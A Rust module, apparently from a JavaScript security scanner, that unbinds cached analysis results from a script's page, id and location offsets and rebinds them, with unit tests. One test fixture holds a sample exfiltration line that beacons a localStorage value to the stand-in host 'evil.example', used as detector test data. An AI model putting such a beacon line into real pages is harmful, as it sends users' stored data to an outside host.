//! A result analysed for one script identity, reusable for another.
//!
//! The engine reads a job's identity (the script's id, its page, where its code starts in its
//! file) only to label findings: `page`, `script`, and `location` shifted by the offsets. An
//! [`Unbound`] is a result with those labels taken off; [`Unbound::bind`] puts another
//! identity's on. What cannot be taken off safely makes [`Unbound::unbind`] refuse, and the
//! script is then analysed under its own identity: a finding labelled with another page or
//! script, a location before the code's start, or the id or page URL appearing anywhere else in
//! the result (a message or evidence that names them would otherwise keep the first page's).
//! `tests/analysis_reuse.rs` checks the premise against the engine on real scripts.

use crate::finding::Location;
use crate::js::{AnalysisJob, ScriptAnalysis};
use serde::{Deserialize, Serialize};

/// The fields of a job that name a script rather than shape its analysis.
#[derive(Clone, Debug, PartialEq, Eq)]
pub struct Identity {
    pub script_id: String,
    pub page_url: String,
    pub line_offset: u32,
    pub column_offset: u32,
}

impl Identity {
    pub fn of(job: &AnalysisJob) -> Identity {
        Identity {
            script_id: job.script_id.clone(),
            page_url: job.page_url.clone(),
            line_offset: job.line_offset,
            column_offset: job.column_offset,
        }
    }

    /// Lines and columns the engine adds to a location in the code's first line / other lines.
    fn shift(&self) -> (u32, u32) {
        (
            self.line_offset.saturating_sub(1),
            self.column_offset.saturating_sub(1),
        )
    }

    /// A location in the file → the same place counted from the code's start (1, 1).
    fn to_code(&self, l: Location) -> Option<Location> {
        let (dl, dc) = self.shift();
        let line = l.line.checked_sub(dl).filter(|&n| n >= 1)?;
        let column = if line == 1 {
            l.column.checked_sub(dc).filter(|&n| n >= 1)?
        } else {
            l.column
        };
        Some(Location { line, column })
    }

    /// The inverse of [`Identity::to_code`].
    fn to_file(&self, l: Location) -> Location {
        let (dl, dc) = self.shift();
        Location {
            line: l.line.saturating_add(dl),
            column: if l.line == 1 {
                l.column.saturating_add(dc)
            } else {
                l.column
            },
        }
    }
}

/// Which labels of one finding were the identity's.
#[derive(Clone, Copy, Debug, PartialEq, Eq, Serialize, Deserialize)]
struct Labels {
    page: bool,
    script: bool,
}

/// A result without its identity: findings' own page and script labels removed (where they
/// were the identity's) and locations counted from the code's start.
#[derive(Clone, Debug, Serialize, Deserialize)]
pub struct Unbound {
    analysis: ScriptAnalysis,
    labels: Vec<Labels>,
}

impl Unbound {
    /// Take `id`'s labels off `result`; `None` when the result depends on the identity in a
    /// way [`Unbound::bind`] could not redo.
    pub fn unbind(result: &ScriptAnalysis, id: &Identity) -> Option<Unbound> {
        if id.script_id.is_empty() || id.page_url.is_empty() {
            return None;
        }
        let mut analysis = result.clone();
        let mut labels = Vec::with_capacity(analysis.findings.len());
        for f in &mut analysis.findings {
            let page = match f.page.take() {
                None => false,
                Some(p) if p == id.page_url => true,
                Some(_) => return None,
            };
            let script = match f.script.take() {
                None => false,
                Some(s) if s == id.script_id => true,
                Some(_) => return None,
            };
            if let Some(l) = f.location {
                f.location = Some(id.to_code(l)?);
            }
            labels.push(Labels { page, script });
        }
        // What the script hands to other scripts carries file locations too (a joined
        // finding points at the send).
        for s in &mut analysis.pipes.sent {
            s.location = id.to_code(s.location)?;
        }
        let rest = serde_json::to_string(&analysis).ok()?;
        for name in [&id.script_id, &id.page_url] {
            let quoted = serde_json::to_string(name).ok()?;
            let escaped = quoted.get(1..quoted.len().saturating_sub(1))?;
            if rest.contains(escaped) {
                return None;
            }
        }
        Some(Unbound { analysis, labels })
    }

    /// The result as the engine gives it for a job of identity `id`.
    pub fn bind(&self, id: &Identity) -> ScriptAnalysis {
        let mut out = self.analysis.clone();
        for (f, l) in out.findings.iter_mut().zip(&self.labels) {
            if l.page {
                f.page = Some(id.page_url.clone());
            }
            if l.script {
                f.script = Some(id.script_id.clone());
            }
            f.location = f.location.map(|loc| id.to_file(loc));
        }
        for s in &mut out.pipes.sent {
            s.location = id.to_file(s.location);
        }
        out
    }

    /// Whether the analysis was complete: nothing stopped it early (a budget, a timeout, a
    /// dead worker) and nothing was left unread. Only complete results outlive the scan.
    pub fn complete(&self) -> bool {
        self.analysis.errors.is_empty()
    }

    /// A well-formed entry has one set of labels per finding.
    pub fn well_formed(&self) -> bool {
        self.labels.len() == self.analysis.findings.len()
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::finding::{Finding, Severity};

    fn id(page: &str, n: u32, line: u32, column: u32) -> Identity {
        Identity {
            script_id: format!("{page}#inline-{n}"),
            page_url: page.into(),
            line_offset: line,
            column_offset: column,
        }
    }

    fn finding(page: &str, script: &str, line: u32, column: u32, evidence: &str) -> Finding {
        Finding {
            rule: "r".into(),
            severity: Severity::High,
            title: "t".into(),
            page: Some(page.into()),
            script: Some(script.into()),
            location: Some(Location { line, column }),
            hosts: vec!["evil.example".into()],
            evidence: Some(evidence.into()),
            message: "m".into(),
            diff: None,
        }
    }

    #[test]
    fn rebinding_moves_labels_and_locations() {
        let a = id("https://s.example/a", 0, 10, 9);
        let b = id("https://s.example/b", 3, 2, 1);
        let r = ScriptAnalysis {
            findings: vec![
                finding(&a.page_url, &a.script_id, 10, 12, "x"),
                finding(&a.page_url, &a.script_id, 14, 5, "y"),
            ],
            ..Default::default()
        };
        let u = Unbound::unbind(&r, &a).unwrap();
        let got = u.bind(&b);
        assert_eq!(got.findings[0].page.as_deref(), Some("https://s.example/b"));
        assert_eq!(
            got.findings[0].script.as_deref(),
            Some("https://s.example/b#inline-3")
        );
        assert_eq!(
            got.findings[0].location,
            Some(Location { line: 2, column: 4 })
        );
        assert_eq!(
            got.findings[1].location,
            Some(Location { line: 6, column: 5 })
        );
        // And back again, exactly.
        let again = Unbound::unbind(&got, &b).unwrap().bind(&a);
        assert_eq!(
            serde_json::to_string(&again).unwrap(),
            serde_json::to_string(&r).unwrap()
        );
    }

    #[test]
    fn pipe_sends_move_with_the_code() {
        let a = id("https://s.example/a", 0, 10, 9);
        let b = id("https://s.example/b", 3, 2, 1);
        let mut r = ScriptAnalysis::default();
        r.pipes.sent.push(crate::js::pipes::PipeSend {
            key: "local:cc".into(),
            host: "evil.example".into(),
            channel: crate::js::fact_kinds::Channel::Beacon,
            location: Location {
                line: 10,
                column: 12,
            },
            evidence: "navigator.sendBeacon(u, localStorage.cc)".into(),
        });
        let got = Unbound::unbind(&r, &a).unwrap().bind(&b);
        assert_eq!(got.pipes.sent[0].location, Location { line: 2, column: 4 });
        // A send before the code's start cannot be this identity's: not reusable.
        r.pipes.sent[0].location = Location { line: 3, column: 1 };
        assert!(Unbound::unbind(&r, &a).is_none());
    }

    #[test]
    fn results_that_name_their_identity_elsewhere_are_not_reusable() {
        let a = id("https://s.example/a", 0, 1, 1);
        let leak = ScriptAnalysis {
            findings: vec![finding(
                &a.page_url,
                &a.script_id,
                1,
                1,
                "fetch('https://s.example/a')",
            )],
            ..Default::default()
        };
        assert!(Unbound::unbind(&leak, &a).is_none());
        let foreign = ScriptAnalysis {
            findings: vec![finding("https://other.example/", &a.script_id, 1, 1, "x")],
            ..Default::default()
        };
        assert!(Unbound::unbind(&foreign, &a).is_none());
        let before_start = ScriptAnalysis {
            findings: vec![finding(&a.page_url, &a.script_id, 1, 1, "x")],
            ..Default::default()
        };
        assert!(Unbound::unbind(&before_start, &id("https://s.example/a", 0, 5, 1)).is_none());
        assert!(Unbound::unbind(&before_start, &id("https://s.example/a", 0, 1, 3)).is_none());
    }
}
